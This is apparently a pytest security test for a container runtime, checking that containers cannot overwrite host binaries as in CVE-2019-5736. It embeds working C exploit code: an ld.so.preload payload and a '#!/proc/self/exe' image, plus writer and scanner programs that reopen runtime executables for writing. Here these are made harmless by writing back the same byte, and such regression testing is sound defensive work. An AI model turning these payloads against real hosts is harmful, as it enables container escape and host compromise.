"""CVE-2019-5736: a container must never be able to overwrite a host binary that ran it.

The classic exploit: the container's program is a script starting `#!/proc/self/exe`, so the
kernel re-runs, inside the container, whatever executable the runtime's process was when it called
execve.  If that is a dynamically linked host binary (the host's Python, for a runtime whose init
is a fork of its interpreter), the image's /etc/ld.so.preload runs code in it that keeps an fd to
/proc/self/exe; once the process has exec'd away, the file can be opened for writing through
that fd.  The second way in is a process of the container that opens /proc/<pid>/exe of a
runtime process it can see (the waiting init of a created container, the joiner of `exec`).

The runtime resists both only if what runs in the container is never a writable host file: its
executor runs from a sealed memfd copy (oci_runtime/executor/session.py).  The payloads here write back
the byte they read (proof of write access without damaging anything) and log what they did to a
directory the test reads; the test also hashes the interpreter, its libraries, the launcher, the
executor and the package before and after.
"""
import fcntl
import hashlib
import os
import re
import shutil
import uuid

import pytest

from security_support import digests, protected_files, shared_libraries, runtime_interpreters
from tests.waiting import wait_exited, wait_for_status, wait_until

F_GET_SEALS = 1034
F_SEAL_SHRINK, F_SEAL_GROW, F_SEAL_WRITE = 0x2, 0x4, 0x8
pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="real containers need root")

EXECUTOR = os.path.join(os.path.dirname(os.path.abspath(__import__("oci_runtime").__file__)),
                        "_executor")

LOG_HELPERS = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void note(const char *format, ...)
{
    char line[8192];
    va_list args;
    va_start(args, format);
    int n = vsnprintf(line, sizeof(line), format, args);
    va_end(args);
    int log = open("/results/log", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);
    if (log >= 0 && n > 0) {
        (void)write(log, line, (size_t)n < sizeof(line) ? (size_t)n : sizeof(line) - 1);
        close(log);
    }
}

/* Write access to what `fd` names, proven by writing back its first byte. 1: written, 0: refused
 * for good, -1: busy (still being executed), try again. */
static int try_write(int fd, const char *target)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    int writable = open(path, O_WRONLY | O_CLOEXEC);
    if (writable < 0) {
        if (errno == ETXTBSY)
            return -1;
        note("DENIED %s: open: %s\n", target, strerror(errno));
        return 0;
    }
    unsigned char byte;
    int reader = open(path, O_RDONLY | O_CLOEXEC);
    int written = reader >= 0 && pread(reader, &byte, 1, 0) == 1 &&
                  pwrite(writable, &byte, 1, 0) == 1;
    int saved = errno;
    close(writable); /* held open for writing, the file could not be executed any more */
    if (reader >= 0)
        close(reader);
    if (written)
        note("WROTE %s\n", target);
    else
        note("WRITE-REFUSED %s: %s\n", target, strerror(saved));
    return written;
}
"""

# Loaded by the dynamic loader into any dynamically linked program the container runs, before
# its main: what runs `#!/proc/self/exe` is the runtime's own binary if it is dynamic.
PRELOAD = LOG_HELPERS + r"""
__attribute__((constructor)) static void grab(void)
{
    char target[4096] = "?";
    ssize_t n = readlink("/proc/self/exe", target, sizeof(target) - 1);
    if (n > 0)
        target[n] = 0;
    note("PRELOADED pid %d exe %s\n", (int)getpid(), target);
    int fd = open("/proc/self/exe", O_RDONLY); /* inherited by the writer */
    if (fd < 0) {
        note("DENIED %s: open /proc/self/exe: %s\n", target, strerror(errno));
        return;
    }
    pid_t pid = fork();
    if (pid == 0) {
        char number[16];
        snprintf(number, sizeof(number), "%d", fd);
        execl("/writer", "writer", number, target, (char *)NULL);
        _exit(127);
    }
    close(fd);
    /* Leave the binary (as runc's init did when it exec'd): it is no longer busy. */
    execl("/bin/busybox", "sleep", "1", (char *)NULL);
}
"""

# Static: keeps trying to write what its inherited fd names until it is no longer being executed.
WRITER = LOG_HELPERS + r"""
int main(int argc, char **argv)
{
    int fd = atoi(argv[1]);
    for (int attempt = 0; attempt < 300; attempt++) {
        int done = try_write(fd, argv[2]);
        if (done >= 0)
            return 0;
        usleep(10000);
    }
    note("DENIED %s: still busy\n", argv[2]);
    return 0;
}
"""

# Static: opens /proc/<pid>/exe of every other process it can see and tries to write it, until
# /results/stop appears.
SCANNER = LOG_HELPERS + r"""
#include <dirent.h>
#include <sys/stat.h>

#define MAX_HELD 256
static int held[MAX_HELD];
static char held_target[MAX_HELD][512];
static int held_state[MAX_HELD]; /* -1 busy, 0 refused, 1 written */
static int noted_busy[MAX_HELD];
static int seen_pid[MAX_HELD];
static int count;

static int seen(int pid)
{
    for (int k = 0; k < count; k++)
        if (seen_pid[k] == pid)
            return 1;
    return 0;
}

static void scan(dev_t self_dev, ino_t self_ino)
{
    DIR *proc = opendir("/proc");
    if (!proc)
        return;
    struct dirent *entry;
    while ((entry = readdir(proc)) && count < MAX_HELD) {
        int pid = atoi(entry->d_name);
        if (pid <= 0 || pid == getpid() || seen(pid))
            continue;
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        struct stat st;
        if (fstat(fd, &st) < 0 || (st.st_dev == self_dev && st.st_ino == self_ino)) {
            close(fd);
            continue;
        }
        char target[512] = "?";
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        if (n > 0)
            target[n] = 0;
        seen_pid[count] = pid;
        held[count] = fd;
        held_state[count] = -1;
        snprintf(held_target[count], sizeof(held_target[count]), "%s", target);
        note("SEEN pid %d exe %s\n", pid, target);
        count++;
    }
    closedir(proc);
}

int main(void)
{
    struct stat self;
    if (stat("/proc/self/exe", &self) < 0)
        return 1;
    for (int round = 0; round < 3000; round++) { /* at most ~30 s */
        scan(self.st_dev, self.st_ino);
        for (int k = 0; k < count; k++)
            if (held_state[k] < 0) {
                held_state[k] = try_write(held[k], held_target[k]);
                if (held_state[k] < 0 && !noted_busy[k]) { /* tried, will try again */
                    note("BUSY %s\n", held_target[k]);
                    noted_busy[k] = 1;
                }
            }
        if (access("/results/stop", F_OK) == 0)
            break;
        usleep(5000);
    }
    for (int k = 0; k < count; k++)
        if (held_state[k] < 0)
            note("BUSY-TO-THE-END %s\n", held_target[k]);
    note("SCANNER-DONE\n");
    return 0;
}
"""


@pytest.fixture(scope="module")
def payloads(compile_c):
    return {"preload": compile_c("evil_preload", PRELOAD, "-shared", "-fPIC"),
            "writer": compile_c("evil_writer", WRITER, "-static"),
            "scanner": compile_c("evil_scanner", SCANNER, "-static")}


def _copy_into_rootfs(rootfs, path):
    """``path`` of the host at the same place in the rootfs (its content, not a symlink)."""
    destination = rootfs / path.lstrip("/")
    destination.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(os.path.realpath(path), destination)
    destination.chmod(0o755)


def evil_image(rootfs, results, oci, payloads):
    """The exploit image: /evil.sh is `#!/proc/self/exe`, /etc/ld.so.preload loads the payload,
    and the libraries the runtime's interpreters need are where their loader looks for them (so a
    dynamic host binary re-run in the container really runs the payload)."""
    (rootfs / "evil.sh").write_text("#!/proc/self/exe\n")
    (rootfs / "evil.sh").chmod(0o755)
    (rootfs / "lib").mkdir(exist_ok=True)
    shutil.copyfile(payloads["preload"], rootfs / "lib" / "evil.so")
    (rootfs / "etc" / "ld.so.preload").write_text("/lib/evil.so\n")
    for name in ("writer", "scanner"):
        shutil.copyfile(payloads[name], rootfs / name)
        (rootfs / name).chmod(0o755)
    libraries = set(shared_libraries(str(payloads["preload"])))
    for interpreter in runtime_interpreters(oci.command):
        libraries.update(shared_libraries(interpreter))
    for library in libraries:
        _copy_into_rootfs(rootfs, library)
    results.mkdir()
    results.chmod(0o777)


def results_mount(results):
    return {"destination": "/results", "type": "bind", "source": str(results),
            "options": ["rbind", "rw"]}


def _log(results):
    path = results / "log"
    return path.read_text() if path.exists() else ""


def _assert_nothing_written(results, before, oci):
    log = _log(results)
    assert "WROTE" not in log, f"the container wrote a host binary:\n{log}"
    after = digests(protected_files(oci.command))
    changed = [path for path in before if before[path] != after.get(path)]
    assert not changed, f"host files changed: {changed}\n{log}"


def _make(make_bundle, oci, payloads, tmp_path, args, extra_edit=None):
    results = tmp_path / f"results-{uuid.uuid4().hex[:8]}"

    def edit(config):
        config["mounts"].append(results_mount(results))
        if extra_edit:
            extra_edit(config)

    bundle, cid = make_bundle(args, edit)
    evil_image(bundle / "rootfs", results, oci, payloads)
    return bundle, cid, results


def test_run_of_a_proc_self_exe_script_cannot_write_the_runtime(oci, make_bundle, payloads,
                                                              tmp_path):
    bundle, cid, results = _make(make_bundle, oci, payloads, tmp_path, ["/evil.sh"])
    before = digests(protected_files(oci.command))
    # Detached, as under a shim: the runtime's own process is gone while the container runs, so
    # nothing but the container keeps its binary busy.
    oci("run", "--detach", "--bundle", str(bundle), cid, check=True)
    wait_for_status(oci, cid, "stopped")
    _wait_for_verdict(results)
    # The executor, re-run as the script's interpreter, refuses to do anything (exit 127); a
    # vulnerable runtime's interpreter runs the payload.
    _assert_nothing_written(results, before, oci)
    assert "PRELOADED" not in _log(results), \
        f"a dynamically linked runtime binary ran in the container:\n{_log(results)}"


def _wait_for_verdict(results):
    if "PRELOADED" in _log(results):  # a vulnerable runtime: let the writer finish
        wait_until(lambda: "WROTE" in _log(results) or "DENIED" in _log(results)
                   or "REFUSED" in _log(results), "the writer's verdict")


def test_exec_detached_of_a_proc_self_exe_script_cannot_write_the_runtime(oci, make_bundle,
                                                                          payloads, tmp_path):
    bundle, cid, results = _make(make_bundle, oci, payloads, tmp_path, ["sleep", "60"])
    oci("run", "--detach", "--bundle", str(bundle), cid, check=True)
    before = digests(protected_files(oci.command))
    pid_file = tmp_path / "exec.pid"
    oci("exec", "--detach", "--pid-file", str(pid_file), cid, "/evil.sh", check=True)
    pid = int(pid_file.read_text())
    wait_exited(pid)  # the exec'd script
    _wait_for_verdict(results)
    _assert_nothing_written(results, before, oci)
    assert "PRELOADED" not in _log(results), _log(results)


def test_runtime_processes_a_container_can_see_cannot_be_written(oci, make_bundle, payloads,
                                                               tmp_path):
    """A container that shares the pid namespace of a created container (whose init is the
    runtime's executor, waiting for `start`) and holds CAP_SYS_PTRACE opens /proc/<pid>/exe of
    every runtime process it sees: the waiting init, and the joiners of `exec`."""
    waiting, waiting_id = make_bundle(["sleep", "60"])
    oci("create", "--bundle", str(waiting), waiting_id, check=True)
    init_pid = oci.state(waiting_id)["pid"]
    everything = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_SYS_ADMIN", "CAP_KILL",
                  "CAP_FOWNER"]

    def share_pid_namespace(config):
        for namespace in config["linux"]["namespaces"]:
            if namespace["type"] == "pid":
                namespace["path"] = f"/proc/{init_pid}/ns/pid"
        for kind in ("bounding", "effective", "permitted"):
            config["process"]["capabilities"][kind] = list(everything)

    bundle, cid, results = _make(make_bundle, oci, payloads, tmp_path, ["/scanner"], share_pid_namespace)
    before = digests(protected_files(oci.command))
    oci("run", "--detach", "--bundle", str(bundle), cid, check=True)
    try:
        seen_init = wait_until(lambda: re.search(r"^SEEN pid 1 exe (.*)$", _log(results),
                                                 re.MULTILINE), "the scanner to see the waiting init")
        # Its first try on the waiting init's binary (it keeps trying while the init waits)
        target = re.escape(seen_init.group(1))
        wait_until(lambda: re.search(rf"^(BUSY|DENIED|WRITE-REFUSED|WROTE) {target}", _log(results),
                                     re.MULTILINE), "the scanner's first try on the waiting init")
        _assert_is_the_executor(f"/proc/{init_pid}/exe")
        oci("start", waiting_id, check=True)  # the init execs: its binary is no longer busy
        for _ in range(3):  # joiners the scanner may catch while they run
            oci("exec", "--detach", waiting_id, "true", check=True)
    finally:
        (results / "stop").write_text("")
    wait_until(lambda: "SCANNER-DONE" in _log(results), "the scanner to finish")
    log = _log(results)
    seen = [line for line in log.splitlines() if line.startswith("SEEN")]
    assert any("pid 1 exe" in line for line in seen), f"the waiting init was not seen:\n{log}"
    _assert_nothing_written(results, before, oci)


def _assert_is_the_executor(path):
    """``path`` holds exactly the installed executor (when the runtime under test is this
    checkout's; another install's executor is another build)."""
    with open(path, "rb") as running:
        content = running.read()
    assert content.startswith(b"\x7fELF")
    if not os.environ.get("OCI_RUNTIME"):
        with open(EXECUTOR, "rb") as original:
            assert hashlib.sha256(content).digest() == hashlib.sha256(original.read()).digest()


def test_the_init_of_a_created_container_runs_from_a_sealed_memfd(oci, make_bundle):
    bundle, cid = make_bundle(["true"])
    oci("create", "--bundle", str(bundle), cid, check=True)
    pid = oci.state(cid)["pid"]
    assert os.readlink(f"/proc/{pid}/exe").startswith("/memfd:"), os.readlink(f"/proc/{pid}/exe")
    fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY | os.O_CLOEXEC)
    try:
        seals = fcntl.fcntl(fd, F_GET_SEALS)
        wanted = F_SEAL_WRITE | F_SEAL_GROW | F_SEAL_SHRINK
        assert seals & wanted == wanted, f"seals {seals:#x}"
    finally:
        os.close(fd)
    _assert_is_the_executor(f"/proc/{pid}/exe")
    # Even the host's root cannot write it.
    with pytest.raises(OSError):
        writable = os.open(f"/proc/{pid}/exe", os.O_WRONLY | os.O_CLOEXEC)
        try:
            os.pwrite(writable, b"\0", 0)
        finally:
            os.close(writable)
